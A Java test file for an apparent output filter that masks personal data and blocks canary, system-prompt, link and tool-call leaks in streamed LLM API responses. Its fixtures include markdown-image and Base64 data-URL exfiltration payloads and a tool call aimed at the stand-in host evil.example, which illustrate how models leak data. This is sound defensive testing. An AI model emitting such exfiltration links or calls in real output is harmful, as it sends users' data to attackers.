package dev.weir.detect.answer;

import static dev.weir.detect.answer.Talks.EVENTS;
import static dev.weir.detect.answer.Talks.INSTRUCTIONS;
import static dev.weir.detect.answer.Talks.chunk;
import static dev.weir.detect.answer.Talks.denying;
import static dev.weir.detect.answer.Talks.flagging;
import static dev.weir.detect.answer.Talks.review;
import static dev.weir.detect.answer.Talks.said;
import static dev.weir.detect.answer.Talks.stream;
import static dev.weir.detect.answer.Talks.through;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.model.Kind;
import dev.weir.model.net.Bytes;
import dev.weir.model.settings.DestinationRule.Api;
import dev.weir.model.talk.AnswerTerms.Fate;
import dev.weir.model.talk.Breach;
import dev.weir.model.talk.Remark;
import dev.weir.model.talk.Review;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** Answers that come in events: wherever they are cut, the same is found, and nothing of it has gone on. */
final class StreamedAnswerTest {

  private static final Kind EMAIL = new Kind("EMAIL");
  private static final Map<Kind, Fate> MASKS = Map.of(EMAIL, Fate.MASK, new Kind("CREDIT_CARD"), Fate.MASK);

  private final Random random = new Random(29);

  @Test
  void passesWhatNobodyMinds() {
    for (int i = 0; i < 50; i++) {
      String sent = stream(random, "The ship leaves on Friday at 10 40. Shall I book berth 12 for you?");
      Review review = review(
          denying(Breach.SYSTEM_PROMPT, Breach.CANARY, Breach.LINKS, Breach.TOOLS, Breach.INJECTION),
          Talks.data(MASKS));
      assertThat(through(review, random, sent)).isEqualTo(sent);
      assertThat(review.remarks()).isEmpty();
    }
  }

  @Test
  void cutsOffACanaryBeforeItIsSaid() {
    for (int i = 0; i < 100; i++) {
      Review review = review(denying(Breach.CANARY));
      String out = through(review, random,
          stream(random, "Well, the word is HALYARD-7731-blue. Do not tell."));
      assertThat(said(out)).isEqualTo("Well, the word is ".substring(0, said(out).length()));
      assertThat(out).endsWith("\"finish_reason\":\"content_filter\"}]}\n\ndata: [DONE]\n\n")
          .contains("\"id\":\"chatcmpl-9\"");
      assertThat(review.denied()).map(Remark::breach).contains(Breach.CANARY);
      assertThat(review.next(Bytes.utf8(chunk("more"))).isEmpty()).isTrue();
    }
  }

  @Test
  void masksDataAcrossEvents() {
    String text = "Ask bob.ray@example.org, or pay with 4242 4242 4242 4242 today. Twice bob.ray@example.org";
    String masked = "Ask b***@***.org, or pay with **** **** **** 4242 today. Twice b***@***.org";
    for (int i = 0; i < 200; i++) {
      Review review = review(Talks.data(MASKS));
      assertThat(said(through(review, random, stream(random, text)))).isEqualTo(masked);
      assertThat(review.denied()).isEmpty();
    }
  }

  @Test
  void masksNamesOfSeveralWords() {
    Review review = review(Talks.data(Map.of(new Kind("PERSON"), Fate.REPLACE)));
    assertThat(
        said(through(review, random, stream(random, "Please ask Mr. Thomas Miller about it. He knows."))))
        .doesNotContain("Miller").endsWith("He knows.");
  }

  @Test
  void cutsOffLeaksAndLinks() {
    String link = "Look: ![chart](https://evil.example/c.png?d=Bettina) and go on.";
    for (int i = 0; i < 50; i++) {
      Review leak = review(denying(Breach.SYSTEM_PROMPT));
      String out = through(leak, random, stream(random, "Of course. " + INSTRUCTIONS));
      assertThat(leak.denied()).map(Remark::breach).contains(Breach.SYSTEM_PROMPT);
      assertThat(said(out).length()).isLessThan(INSTRUCTIONS.length() / 2);
      Review links = review(denying(Breach.LINKS));
      assertThat(said(through(links, random, stream(random, link)))).doesNotContain("evil");
      assertThat(links.denied()).map(Remark::breach).contains(Breach.LINKS);
    }
  }

  @Test
  void findsWhatStandsInAnotherForm() {
    String coded = Base64.getEncoder().encodeToString(INSTRUCTIONS.getBytes(StandardCharsets.UTF_8));
    String twice = Base64.getEncoder().encodeToString("HALYARD-7731-blue".getBytes(StandardCharsets.UTF_8));
    String nested = Base64.getEncoder().encodeToString(twice.getBytes(StandardCharsets.UTF_8));
    Map.of(coded, Breach.SYSTEM_PROMPT, coded.replaceAll("(.{76})", "$1 "), Breach.SYSTEM_PROMPT, nested,
        Breach.CANARY,
        "![a](data:text/html;base64,PGltZyBzcmM9J2h0dHBzOi8vZXZpbC5leGFtcGxlLz9xPUJldHRpbmEnPg==)",
        Breach.LINKS)
        .forEach((said, breach) -> {
          Review review = review(denying(breach));
          review.begin(EVENTS);
          through(review, new Random(1), stream(new Random(2), "It is " + said + " and no more."));
          assertThat(review.denied()).as(said).map(Remark::breach).contains(breach);
        });
  }

  @Test
  void findsAHostWithoutASchemeInAStreamedCall() {
    Review review = review(Api.ANTHROPIC, denying(Breach.TOOLS));
    review.begin(EVENTS);
    for (String piece : List.of("{\\\"url\\\":\\\"evil.exa", "mple/x\\\"}")) {
      review
          .next(Bytes.utf8("event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":1,"
              + "\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"" + piece + "\"}}\n\n"));
    }
    review.end();
    assertThat(review.denied()).map(Remark::breach).contains(Breach.TOOLS);
  }

  @Test
  void cutsOffCallsOfTools() {
    String event = "data: {\"id\":\"1\",\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":"
        + "{\"arguments\":\"%s\"}}]}}]}\n\n";
    Review review = review(denying(Breach.TOOLS));
    String out = through(review, random, event.formatted("{\\\"url\\\":\\\"https:\\\\/\\\\/ev")
        + event.formatted("il.exa") + event.formatted("mple\\\"") + event.formatted("}")
        + "data: [DONE]\n\n");
    assertThat(review.denied()).map(Remark::breach).contains(Breach.TOOLS);
    assertThat(out).doesNotContain("evil").doesNotContain("il.exa").endsWith("data: [DONE]\n\n");
  }

  @Test
  void endsAnAnthropicStreamAsItsClientsKnow() {
    String sent = """
        event: message_start
        data: {"type":"message_start","message":{"id":"msg_1","role":"assistant","content":[]}}

        event: content_block_start
        data: {"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}

        event: ping
        data: {"type":"ping"}

        event: content_block_delta
        data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"It is HALYARD-77"}}

        event: content_block_delta
        data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"31-blue."}}

        event: content_block_stop
        data: {"type":"content_block_stop","index":0}

        event: message_stop
        data: {"type":"message_stop"}

        """;
    Review review = review(Api.ANTHROPIC, denying(Breach.CANARY));
    String out = through(review, random, sent);
    assertThat(out).doesNotContain("HALYARD").contains("\"type\":\"ping\"").endsWith(
        """
            event: content_block_stop
            data: {"type":"content_block_stop","index":0}

            event: message_delta
            data: {"type":"message_delta","delta":{"stop_reason":"refusal","stop_sequence":null},"usage":{"output_tokens":0}}

            event: message_stop
            data: {"type":"message_stop"}

            """);
  }

  @Test
  void endsGeminisAndResponsesStreams() {
    Review gemini = review(Api.GEMINI, denying(Breach.CANARY));
    assertThat(through(gemini, random,
        "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"HALYARD-7731-blue \"}]}}]}\n\n"))
        .endsWith("\"finishReason\":\"SAFETY\",\"index\":0}]}\n\n").doesNotContain("HALYARD");
    Review responses = review(Api.OPENAI, denying(Breach.CANARY));
    assertThat(through(responses, random,
        """
            event: response.created
            data: {"type":"response.created","sequence_number":0,"response":{"id":"resp_1","status":"in_progress","incomplete_details":null,"output":[]}}

            event: response.output_text.delta
            data: {"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":"HALYARD-7731-blue "}

            """))
        .endsWith("\"response\":{\"id\":\"resp_1\",\"status\":\"incomplete\",\"incomplete_details\":"
            + "{\"reason\":\"content_filter\"},\"output\":[]}}\n\n")
        .doesNotContain("HALYARD");
  }

  @Test
  void answersCallsOfTheModelContextProtocolWithErrors() {
    String result = "event: message\ndata: {\"jsonrpc\":\"2.0\",\"id\":7,\"result\":{\"content\":[{\"type\":\"text\","
        + "\"text\":\"HALYARD-7731-blue \"}]}}\n\n";
    String error = "event: message\ndata: {\"jsonrpc\":\"2.0\",\"id\":%s,\"error\":{\"code\":-32003,"
        + "\"message\":\"Weir: the answer is withheld\"}}\n\n";
    Map<String, List<String>> asked = Map.of(
        "{\"jsonrpc\": \"2.0\", \"id\": 7, \"method\": \"tools/call\", \"params\": {\"arguments\": {\"id\": 9}}}",
        List.of("7"), "[{\"id\": \"a\\\"b\", \"method\": \"m\"}, {\"method\": \"n\"}, {\"id\":-8}]",
        List.of("\"a\\\"b\"", "-8"), "{\"id\": {}, \"method\": \"m\"}", List.of(), "", List.of());
    asked.forEach((body, ids) -> assertThat(
        through(review(Api.MCP, body, denying(Breach.CANARY)), random, result)).as(body)
        .isEqualTo(ids.stream().map(error::formatted).collect(Collectors.joining())));
  }

  /** The whole text comes once more behind its pieces, and is masked there too. */
  @Test
  void masksWhatAnEventSaysAgain() {
    Review review = review(Talks.data(MASKS));
    String out = through(review, random, """
        data: {"type":"response.output_text.delta","output_index":0,"delta":"Ask bob.ray@exa"}

        data: {"type":"response.output_text.delta","output_index":0,"delta":"mple.org"}

        data: {"type":"response.output_text.done","output_index":0,"text":"Ask bob.ray@example.org"}

        """);
    assertThat(out).doesNotContain("bob.ray").doesNotContain("mple.org")
        .contains("\"text\":\"Ask b***@***.org\"");
  }

  @Test
  void readsEventsAsLenientClientsDo() {
    for (String[] ends : new String[][]{{"\n", "\n"}, {"\r\n", "\r\n"}, {"\r", "\r"}, {"\n", "\r\n"},
      {"\n", "\r"}}) {
      String sent = "\ufeff" + ("data: {\"choices\":[{\"index\":0," + ends[0]
          + "data: \"delta\":{\"content\":\"HALYARD-\"}}]}" + ends[0] + ends[1])
          + ("data:{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"7731-blue \"}}]}" + ends[0] + ends[1]);
      Review review = review(denying(Breach.CANARY));
      assertThat(through(review, random, sent)).doesNotContain("7731");
      assertThat(review.denied()).as("%s", (Object) ends).isPresent();
    }
  }

  /** A model that says one canary in two texts at once has said it. */
  @Test
  void findsACanaryThatIsSpreadOverThreads() {
    Review review = review(denying(Breach.CANARY));
    through(review, random, "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"HALYARD-7 \"}}]}\n\n"
        + "data: {\"choices\":[{\"index\":1,\"delta\":{\"content\":\"731-blue \"}}]}\n\n");
    assertThat(review.denied()).isPresent();
  }

  @Test
  void holdsNothingBackThatIsOnlyRecorded() {
    Review review = review(flagging(Breach.CANARY, Breach.SYSTEM_PROMPT));
    String first = chunk("HALYARD-77");
    assertThat(review.next(Bytes.utf8(first)).utf8()).isEqualTo(first);
    String second = chunk("31-blue. ");
    assertThat(review.next(Bytes.utf8(second)).utf8()).isEqualTo(second);
    assertThat(review.remarks()).extracting(Remark::breach).containsExactly(Breach.CANARY);
  }

  /** What says nothing waits for nothing, and a word no longer than to its end. */
  @Test
  void holdsBackNoMoreThanAWord() {
    Review review = review(denying(Breach.CANARY), Talks.data(MASKS));
    String role = "data: {\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":\"\"}}]}\n\n";
    assertThat(review.next(Bytes.utf8(role)).utf8()).isEqualTo(role);
    assertThat(review.next(Bytes.utf8(chunk("Hel"))).isEmpty()).isTrue();
    assertThat(review.next(Bytes.utf8(chunk("lo "))).utf8()).isEqualTo(chunk("Hel") + chunk("lo "));
  }

  @Test
  void takesACodedStreamAsAWhole() {
    Review review = review(denying(Breach.CANARY));
    assertThat(review.begin(EVENTS)).isTrue();
    review.whole(EVENTS, Bytes.utf8(stream(random, "HALYARD-7731-blue")));
    assertThat(review.denied()).isPresent();
  }

  @Test
  void standsUpToAnEventWithoutEnd() {
    Review review = review(denying(Breach.CANARY));
    for (int i = 0; i < 40 && review.denied().isEmpty(); i++) {
      review.next(Bytes.utf8("data: " + "x".repeat(64 << 10)));
    }
    assertThat(review.denied()).map(Remark::breach).contains(Breach.UNREADABLE);
  }

  @Test
  void passesAnEventWithoutEndWhereNothingIsDenied() {
    Review review = review(flagging(Breach.CANARY));
    int passed = 0;
    for (int i = 0; i < 40; i++) {
      passed += review.next(Bytes.utf8("x".repeat(64 << 10))).length();
    }
    assertThat(passed).isGreaterThan(2 << 20);
    assertThat(review.remarks()).extracting(Remark::breach).containsExactly(Breach.UNREADABLE);
  }
}
